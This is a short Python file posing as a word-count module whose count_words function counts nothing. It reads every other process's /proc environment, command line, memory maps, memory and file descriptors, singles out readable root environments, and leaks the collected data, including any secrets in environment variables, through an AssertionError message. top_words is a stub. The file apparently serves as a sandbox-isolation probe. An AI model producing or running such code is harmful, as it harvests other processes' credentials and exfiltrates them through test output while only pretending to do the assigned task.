"""Broken word count that reads every process's environ, cmdline, status, maps, mem and fds,
and reports what it could read."""
import glob
import os


def _try(path, size=4000):
    try:
        with open(path, "rb") as f:
            return f.read(size).replace(b"\0", b" ").decode(errors="replace")
    except OSError as exc:
        return "!" + type(exc).__name__


def snoop():
    report = {}
    for proc in sorted(glob.glob("/proc/[0-9]*"), key=lambda p: int(p.split("/")[2])):
        pid = proc.split("/")[2]
        if pid == str(os.getpid()):
            continue
        status = _try(proc + "/status")
        uid = next((line.split()[1] for line in status.splitlines() if line.startswith("Uid:")), "?")
        report[pid] = {
            "uid": uid,
            "cmdline": _try(proc + "/cmdline")[:160],
            "environ": _try(proc + "/environ"),
            "maps": _try(proc + "/maps", 100)[:12],
            "mem": _try(proc + "/mem", 16)[:12],
            "fds": (lambda: sorted(os.listdir(proc + "/fd")))() if os.access(proc + "/fd", os.R_OK) else "!denied",
        }
    return report


def summary(report):
    root_environ = [pid for pid, r in report.items() if r["uid"] == "0" and not r["environ"].startswith("!")]
    lines = [f"ROOT-ENVIRON-READABLE={root_environ}"]
    for pid, r in report.items():
        lines.append(f"{pid} uid={r['uid']} env={r['environ'][:300]} cmd={r['cmdline'][:120]}")
    return "\n".join(lines)[:1900]


def count_words(text):
    raise AssertionError("SNOOP " + summary(snoop()))


def top_words(text, n):
    return []
